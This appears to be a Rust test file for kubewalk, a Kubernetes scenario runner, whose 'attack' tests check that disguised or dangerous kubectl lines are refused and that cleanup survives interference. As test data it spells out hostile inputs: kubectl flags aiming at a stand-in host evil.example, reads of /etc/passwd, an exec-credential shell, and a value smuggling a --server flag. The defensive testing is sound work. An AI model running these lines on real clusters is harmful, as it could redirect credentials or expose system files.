//! See `tests/docker/attacks.rs`.

use std::{path::Path, process::Child, time::Duration};

use http::Method;
use kubewalk::cluster::Owner;
use rustix::process::{Pid, Signal, kill_process};
use serde_json::{Value, json};

use crate::{
    given::{Given, ROLES, RULES},
    page::Attack,
    traces::Said,
};

const POLICIES: &str = "/apis/admissionregistration.k8s.io/v1";

fn interrupt(child: &Child) {
    kill_process(Pid::from_raw(child.id().cast_signed()).expect("a pid"), Signal::INT).expect("sent");
}

/// A scenario of one kubectl call a step.
fn calls(title: &str, lines: &[&str]) -> String {
    let words = |line: &str| line.split(' ').map(|word| format!("'{word}'")).collect::<Vec<_>>().join(", ");
    let steps =
        lines.iter().map(|line| format!("  - {{title: 'it is {line}', kubectl: {{args: [{}]}}}}\n", words(line)));
    format!("title: {title}\nsteps:\n{}", steps.collect::<String>())
}

#[test]
fn attack_a04_a_command_line_that_hides_what_it_does() {
    let given = Given::new();
    given.send(Method::POST, "/api/v1/namespaces", &json!({"metadata": {"name": "theirs-a04"}}));
    let lines = [
        "-n get delete namespace theirs-a04",
        "-nget delete namespace theirs-a04",
        "--namespace logs delete namespace theirs-a04",
        "--as auth delete namespace theirs-a04",
        "-v describe delete namespace theirs-a04",
        "--output get delete namespace theirs-a04",
        "-l get delete namespace --all",
        "auth -n can-i reconcile --filename=x",
        "rollout -n status restart deployment/x",
        "get --raw /api/v1/namespaces/x/services/y/proxy/",
        "get pods --as=system:admin",
        "get pods -k /etc",
        "get pods --frobnicate",
    ];
    let scenario = given.file("a04.yaml", &calls("Hidden", &lines));
    let path = given.fake_kubectl(&format!("echo called >> {}/called", given.files.path().display()));
    let output = given.command(&scenario, &[]).env("PATH", path).output().expect("kubewalk starts");
    let said = Said::from(&output);
    assert_eq!(said.code, Some(2), "{said:?}");
    for (index, line) in lines.iter().enumerate() {
        assert!(said.stderr.contains(&format!("a04.yaml:{}:", index + 3)), "{line}: {}", said.stderr);
    }
    assert!(said.stderr.contains("error: 1 scenario is invalid; nothing was started"), "{}", said.stderr);
    assert!(!given.files.path().join("called").exists());
    assert!(
        given.there("/api/v1/namespaces/theirs-a04").is_some_and(|it| it["metadata"]["deletionTimestamp"].is_null())
    );
    assert_eq!(given.place.left(), Vec::<String>::new());
    given.send(Method::DELETE, "/api/v1/namespaces/theirs-a04", &Value::Null);
    let tried = "`kubectl` lines that delete or reach further, in 13 spellings that look like reading: `[-n, get, delete, namespace, X]`";
    Attack::new("A04", tried, file!()).held("Each is refused at its line before anything starts, exit code 2.");
}

#[test]
fn attack_a04b_files_and_settings_of_this_machine() {
    let given = Given::new();
    let never = [
        "config set-credentials boss --exec-command=/bin/sh",
        "config use-context production",
        "plugin list",
        "get pods -s https://evil.example",
        "get pods -Ashttps://evil.example",
        "get pods --client_key=/etc/passwd",
        "get pods --cache-dir=/etc",
    ];
    let files = [
        "get pods -o go-template-file=/etc/passwd",
        "get pods -o jsonpath-file --template=/etc/passwd",
        "create configmap x --from-file=/etc/passwd",
        "apply -f /etc/passwd",
        "patch configmap x --patch-file=/etc/passwd",
        "cluster-info dump --output-directory=/etc",
        "cp x:/etc/passwd /etc/passwd",
        "kustomize /etc",
    ];
    let before = std::fs::read(given.kubeconfig()).expect("a file");
    for lines in [&never[..], &files[..]] {
        let scenario = given.file("a04b.yaml", &calls("Files", lines));
        let said = given.run(&scenario, &["--yes-this-cluster"]);
        assert_eq!(said.code, Some(2), "{said:?}");
        for (index, line) in lines.iter().enumerate() {
            assert!(said.stderr.contains(&format!("a04b.yaml:{}:", index + 3)), "{line}: {}", said.stderr);
        }
        assert!(said.stderr.contains("error: 1 scenario is invalid; nothing was started"), "{}", said.stderr);
    }
    assert_eq!(std::fs::read(given.kubeconfig()).expect("a file"), before);
    let tried = "`kubectl` lines that change the person's kubeconfig, name another server, or read and write files of this machine, with --yes-this-cluster";
    Attack::new("A04b", tried, file!()).held("Each is refused at its line before anything starts, exit code 2.");
}

#[test]
fn attack_a04c_what_kubectl_finds_on_this_machine() {
    let given = Given::new();
    let script = "echo HOME=$HOME; echo KUBERC=$KUBECTL_KUBERC; echo DIFF=$KUBECTL_EXTERNAL_DIFF; stat -c MODE=%a $KUBECONFIG\n\
                  grep -c production $KUBECONFIG; echo ARGS=$*; pwd";
    let path = given.fake_kubectl(script);
    let text = "title: What it finds\nsteps:\n  - title: It finds nothing of the person\n    kubectl: {args: [-n, get, get, pods, -ojson]}\n    \
                expect:\n      stdout: {startsWith: 'HOME={DIR}'}\n  \
                - {title: One kubeconfig, kubectl: {args: [get, pods]}, expect: {stdout: {contains: \"KUBERC=false\\nDIFF=\\nMODE=600\\n0\\n\"}}}\n  \
                - {title: One reading, kubectl: {args: [-n, get, get, pods, -ojson]}, expect: {stdout: {contains: \"ARGS=get --namespace=get --output=json pods\\n\"}}}\n";
    let text = text.replace("{DIR}", &given.place.state().display().to_string());
    let scenario = given.file("a04c.yaml", &text);
    let mut command = given.command(&scenario, &[]);
    command.env("PATH", path).env("KUBECTL_EXTERNAL_DIFF", "/bin/sh").env("HOME", given.files.path());
    let said = Said::from(&command.output().expect("kubewalk starts"));
    assert_eq!(said.code, Some(0), "{said:?}");
    assert_eq!(given.place.left(), Vec::<String>::new());
    let tried = "plugins, preferences, another context and an external diff program in the person's kubeconfig, home and environment, for `kubectl` to find";
    let seen = "kubectl gets a kubeconfig of one context, mode 0600, and a home of its own; it is called in the one form that can be read in one way only.";
    Attack::new("A04c", tried, file!()).held(seen);
}

#[test]
fn attack_a04d_a_value_that_becomes_a_flag() {
    let given = Given::new();
    let called = given.files.path().join("called");
    let path = given.fake_kubectl(&format!("echo \"$*\" >> {}", called.display()));
    let text = "title: A value\nsteps:\n  - title: It comes from an object\n    create: {apiVersion: v1, kind: ConfigMap, metadata: {name: c}, data: {x: '--server=https://evil.example'}}\n    \
                save: {x: $.data.x}\n  - title: It is a word\n    kubectl: {args: [get, pods, '{saved.x}']}\n";
    let scenario = given.file("a04d.yaml", text);
    let output = given.command(&scenario, &[]).env("PATH", &path).output().expect("kubewalk starts");
    let said = Said::from(&output);
    assert_eq!(said.code, Some(3), "{said:?}");
    assert!(said.stdout.contains("[argument]") && said.stdout.contains("would be a flag"), "{said:?}");
    assert!(!called.exists());
    // As a flag's value it is one, and a path that leads on is refused though only the value says so.
    let text = text.replace("--server=https://evil.example", "x/services/y/proxy/");
    let scenario = given.file("a04d2.yaml", &text.replace("pods, '{saved.x}'", "'--raw=/api/v1/namespaces/{saved.x}'"));
    let output = given.command(&scenario, &[]).env("PATH", &path).output().expect("kubewalk starts");
    let said = Said::from(&output);
    assert_eq!(said.code, Some(3), "{said:?}");
    assert!(said.stdout.contains("may do more than read"), "{said:?}");
    assert!(!called.exists());
    let tried = "a value of an object or a Pod that becomes a flag of `kubectl`, or a path that reaches further, once it is filled in";
    Attack::new("A04d", tried, file!())
        .held("The step is broken off before kubectl is called, class `argument`, exit code 3.");
}

/// A kubectl that starts others, notes them, and stays.
const FAMILY: &str = "trap '' TERM INT HUP; sleep 600 & a=$!; (sleep 600 & wait) & b=$!\n\
                      echo $$ $a $b > {DIR}/pids.new; cp $KUBECONFIG {DIR}/seen; echo $KUBECONFIG > {DIR}/config; mv {DIR}/pids.new {DIR}/pids; wait; sleep 600";

/// Which of the processes that a fake kubectl noted live.
fn alive(given: &Given) -> Vec<String> {
    let pids = std::fs::read_to_string(given.files.path().join("pids")).expect("pids");
    let lives = |pid: &&str| {
        let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        state.rsplit_once(") ").is_some_and(|(_, rest)| !rest.starts_with('Z'))
    };
    pids.split_whitespace().filter(lives).map(str::to_owned).collect()
}

#[test]
fn attack_a06_what_kubectl_started_outlives_the_run() {
    let given = Given::new();
    let path = given.fake_kubectl(&FAMILY.replace("{DIR}", &given.files.path().display().to_string()));
    let text = "title: Long\nsteps:\n  - {title: An account, serviceAccount: sa}\n  - {title: It takes long, as: serviceaccount/sa, kubectl: {args: [get, pods]}}\n";
    let scenario = given.file("a06.yaml", text);
    let child = given.command(&scenario, &[]).env("PATH", &path).spawn().expect("kubewalk starts");
    given.until("kubectl is called", || given.files.path().join("pids").exists());
    assert_eq!(alive(&given).len(), 3);
    let config = std::fs::read_to_string(given.files.path().join("config")).expect("a path");
    let token = std::fs::read_to_string(given.files.path().join("seen")).expect("a kubeconfig");
    assert!(token.contains("\"token\":\"ey"), "it has a token");
    interrupt(&child);
    let said = Said::from(&child.wait_with_output().expect("waited for"));
    assert_eq!((said.code, alive(&given)), (Some(130), vec![]), "{said:?}");
    assert!(said.stderr.contains("stopped by signal 2; everything that was started is removed"), "{}", said.stderr);
    assert!(!Path::new(config.trim()).exists());
    assert_eq!(given.place.left(), Vec::<String>::new());
    // At a deadline alike.
    std::fs::remove_file(given.files.path().join("pids")).expect("removed");
    let scenario = given.file("a06b.yaml", &text.replace("kubectl:", "timeout: 1s, kubectl:"));
    let output = given.command(&scenario, &[]).env("PATH", &path).output().expect("kubewalk starts");
    let said = Said::from(&output);
    assert_eq!((said.code, alive(&given)), (Some(3), vec![]), "{said:?}");
    assert_eq!(given.place.left(), Vec::<String>::new());
    let tried = "Ctrl-C, and a deadline, while a `kubectl` that ignores TERM and has started other processes holds a file with an account's token";
    let seen = "All of its process group have ended and the file is gone before kubewalk says so.";
    Attack::new("A06", tried, file!()).held(seen);
}

fn role(name: &str, mark: Option<&Owner>) -> Value {
    let mut role =
        json!({"metadata": {"name": name}, "rules": [{"apiGroups": [""], "resources": ["nodes"], "verbs": ["get"]}]});
    if let Some(owner) = mark {
        role["metadata"]["labels"] = json!({"kubewalk.dev/run": owner.run, "kubewalk.dev/pid": owner.pid.to_string()});
        role["metadata"]["annotations"] = json!({"kubewalk.dev/owner": serde_json::to_string(owner).expect("JSON")});
    }
    role
}

#[test]
fn attack_k12_the_name_is_somebody_elses_when_it_is_removed() {
    let given = Given::new();
    let text = format!(
        "title: Taken\nsteps:\n  - {{title: A role, clusterRole: {{name: kw-k12, {RULES}}}}}\n  \
         - {{title: A namespace, apply: {{apiVersion: v1, kind: Namespace, metadata: {{name: place-of-k12}}}}}}\n  \
         - {{title: It goes on, wait: {{kind: ConfigMap, name: go, for: exists}}}}\n"
    );
    let scenario = given.file("k12.yaml", &text);
    let child = given.command(&scenario, &["--cleanup-budget", "20s"]).spawn().expect("kubewalk starts");
    let (role_path, place) = (format!("{ROLES}/kw-k12"), "/api/v1/namespaces/place-of-k12");
    given.until("both are made", || given.there(&role_path).is_some() && given.there(place).is_some());
    for (path, list, new) in [
        (role_path.as_str(), ROLES, role("kw-k12", None)),
        (place, "/api/v1/namespaces", json!({"metadata": {"name": "place-of-k12"}})),
    ] {
        given.send(Method::DELETE, path, &Value::Null);
        given.until("it is gone", || given.there(path).is_none());
        given.send(Method::POST, list, &new);
    }
    given.send(
        Method::POST,
        &format!("{place}/configmaps"),
        &json!({"metadata": {"name": "content"}, "data": {"a": "b"}}),
    );
    let own = given.namespace("kw-k12-").expect("its namespace");
    given.send(Method::POST, &format!("/api/v1/namespaces/{own}/configmaps"), &json!({"metadata": {"name": "go"}}));
    let said = Said::from(&child.wait_with_output().expect("waited for"));
    assert_eq!(said.code, Some(6), "{said:?}");
    for what in ["ClusterRole kw-k12", "Namespace place-of-k12"] {
        let line = format!("{what}: it is another one now, made by somebody else meanwhile, and was not touched");
        assert!(said.stdout.contains(&line) || said.stderr.contains(&line), "{said:?}");
    }
    assert_eq!(given.there(&role_path).expect("it stays")["rules"][0]["resources"][0], "nodes");
    assert!(given.there(&format!("{place}/configmaps/content")).is_some());
    given.send(Method::DELETE, &role_path, &Value::Null);
    given.send(Method::DELETE, place, &Value::Null);
    let tried = "a ClusterRole and a Namespace of a run are deleted and made anew by somebody else, before the run removes them";
    Attack::new("K12", tried, file!()).held("Both stay with their content; the run says so and ends with exit code 6.");
}

#[test]
fn attack_k12b_eight_runs_with_one_cluster_wide_name() {
    let given = Given::new();
    let runs: Vec<(String, Child)> = (0..8)
        .map(|index| {
            let name = format!("mine-{index}");
            let text = format!(
                "title: Shared {index}\nsteps:\n  - title: A role that says whose it is\n    timeout: 4m\n    clusterRole: {{name: kw-k12-shared, rules: [{{apiGroups: [''], resources: [pods], verbs: [list], resourceNames: [{name}]}}]}}\n  \
                 - {{title: It is still that one, get: {{kind: ClusterRole, name: kw-k12-shared}}, expect: {{object: {{rules: [{{resourceNames: [{name}]}}]}}}}}}\n"
            );
            let scenario = given.file(&format!("shared-{index}.yaml"), &text);
            (name, given.command(&scenario, &[]).spawn().expect("kubewalk starts"))
        })
        .collect();
    for (name, child) in runs {
        let said = Said::from(&child.wait_with_output().expect("waited for"));
        assert_eq!(said.code, Some(0), "{name}: {said:?}");
    }
    assert_eq!(given.there(&format!("{ROLES}/kw-k12-shared")), None);
    assert_eq!(given.place.left(), Vec::<String>::new());
    let tried = "eight runs at once on one existing cluster, each of which makes a ClusterRole of the same name with other rules";
    Attack::new("K12b", tried, file!()).held("Each waits for its turn and sees its own; all hold, and nothing stays.");
}

#[test]
fn attack_k12c_a_name_that_another_run_holds() {
    let given = Given::new();
    let lives = Owner::new();
    let died = Owner { start: "1".into(), ..Owner::new() };
    let text = format!(
        "title: Held\ntimeout: 5s\nsteps:\n  - {{title: A role, clusterRole: {{name: kw-k12-held, {RULES}}}}}\n"
    );
    let scenario = given.file("held.yaml", &text);
    let path = format!("{ROLES}/kw-k12-held");
    for (owner, words) in
        [(&lives, "and was not free in time"), (&died, "which was killed: `kubewalk sweep` removes it")]
    {
        let before = given.send(Method::POST, ROLES, &role("kw-k12-held", Some(owner)));
        let said = given.run(&scenario, &[]);
        assert_eq!(said.code, Some(3), "{said:?}");
        let run = format!("the kubewalk run {} (process {})", owner.run, owner.pid);
        let all = format!("{}{}", said.stdout, said.stderr);
        assert!(all.contains(&run) && all.contains(words), "{all}");
        assert_eq!(given.there(&path).expect("it stays"), before);
        given.send(Method::DELETE, &path, &Value::Null);
    }
    let tried = "a run needs a cluster-wide name that another run holds, one that lives and does not end, and one that was killed";
    Attack::new("K12c", tried, file!()).held("It touches nothing and ends with exit code 3, naming the other run.");
}

#[test]
fn attack_k13_pods_that_ignore_the_end() {
    let given = Given::new();
    let pod = "{containers: [{name: c, image: curl, command: [sleep, infinity]}]}";
    let deployment = |title: &str, place: &str| {
        format!(
            "  - {{title: {title}, apply: {{apiVersion: apps/v1, kind: Deployment, metadata: {{name: deaf{place}}}, spec: {{replicas: 2, selector: {{matchLabels: {{a: b}}}}, template: {{metadata: {{labels: {{a: b}}}}, spec: {pod}}}}}}}}}\n  \
             - {{title: {title} it runs, wait: {{kind: Deployment, name: deaf{place}, for: {{condition: Available}}}}}}\n"
        )
    };
    let text = format!(
        "title: Deaf\nsteps:\n  - {{title: A Pod, apply: {{apiVersion: v1, kind: Pod, metadata: {{name: deaf}}, spec: {pod}}}}}\n  \
         - {{title: It runs, wait: {{kind: Pod, name: deaf, for: {{condition: Ready}}}}}}\n  \
         - {{title: A namespace, apply: {{apiVersion: v1, kind: Namespace, metadata: {{name: kw-deaf-place}}}}}}\n{}{}",
        deployment("Here", ""),
        deployment("In a namespace that it made", ", namespace: kw-deaf-place"),
    );
    let scenario = given.file("deaf.yaml", &text);
    let args = ["--curl-image", "kubewalk.local/curl:1", "--cleanup-budget", "20s", "--yes-this-cluster"];
    let said = given.run(&scenario, &args);
    assert_eq!(said.code, Some(0), "{said:?}");
    assert_eq!(given.namespace("kw-deaf"), None);
    let tried = "Pods that ignore TERM, which Kubernetes would wait 30 s for, alone and behind Deployments, in the own namespace and in one that the scenario made";
    Attack::new("K13", tried, file!()).held("They and the namespaces are gone before those 30 s, exit code 0.");
}

#[test]
fn attack_k14_a_policy_that_refuses_deletes() {
    let given = Given::new();
    let name = "kw-k14-keep";
    let spec = json!({
        "matchConstraints": {"resourceRules": [{
            "apiGroups": ["rbac.authorization.k8s.io"], "apiVersions": ["v1"], "operations": ["DELETE"],
            "resources": ["clusterroles"], "resourceNames": ["kw-k14"],
        }]},
        "validations": [{"expression": "false", "message": "it is to stay"}],
    });
    let policy = json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicy", "metadata": {"name": name}, "spec": spec});
    let spec = json!({"policyName": name, "validationActions": ["Deny"]});
    let binding = json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicyBinding", "metadata": {"name": name}, "spec": spec});
    given.send(Method::POST, &format!("{POLICIES}/validatingadmissionpolicies"), &policy);
    given.send(Method::POST, &format!("{POLICIES}/validatingadmissionpolicybindings"), &binding);
    let path = format!("{ROLES}/kw-k14");
    given.send(Method::POST, ROLES, &role("kw-k14", None));
    given.until("the policy is obeyed", || {
        given.answer(Method::DELETE, &format!("{path}?dryRun=All"), &Value::Null).0 == 422
    });
    let unbind =
        || given.send(Method::DELETE, &format!("{POLICIES}/validatingadmissionpolicybindings/{name}"), &Value::Null);
    unbind();
    given.until("it can go", || matches!(given.answer(Method::DELETE, &path, &Value::Null).0, 200 | 404));
    given.until("it is gone", || given.there(&path).is_none());
    given.send(Method::POST, &format!("{POLICIES}/validatingadmissionpolicybindings"), &binding);
    std::thread::sleep(Duration::from_secs(2));

    let text = format!("title: Kept\nsteps:\n  - {{title: A role, clusterRole: {{name: kw-k14, {RULES}}}}}\n");
    let scenario = given.file("kept.yaml", &text);
    let said = given.run(&scenario, &["--cleanup-budget", "3s"]);
    assert_eq!(said.code, Some(6), "{said:?}");
    let all = format!("{}{}", said.stdout, said.stderr);
    assert!(all.contains("ClusterRole kw-k14: ") && all.contains("it is to stay"), "{all}");
    unbind();
    given.until("it can go", || matches!(given.answer(Method::DELETE, &path, &Value::Null).0, 200 | 404));
    given.until("it is gone", || given.there(&path).is_none());
    given.send(Method::POST, &format!("{POLICIES}/validatingadmissionpolicybindings"), &binding);
    std::thread::sleep(Duration::from_secs(2));
    // Refused at first, and let go a while later.
    let child = given.command(&scenario, &["--cleanup-budget", "40s"]).spawn().expect("kubewalk starts");
    given.until("it is made", || given.there(&path).is_some());
    std::thread::sleep(Duration::from_secs(3));
    assert!(given.there(&path).is_some(), "the policy keeps it");
    unbind();
    let said = Said::from(&child.wait_with_output().expect("waited for"));
    assert_eq!((said.code, given.there(&path)), (Some(0), None), "{said:?}");
    given.send(Method::DELETE, &format!("{POLICIES}/validatingadmissionpolicies/{name}"), &Value::Null);
    let tried = "an admission policy refuses the deletes of the clean-up, for a while and for ever";
    Attack::new("K14", tried, file!())
        .held("They are tried again until the budget ends; what then stays is listed with the policy's words.");
}
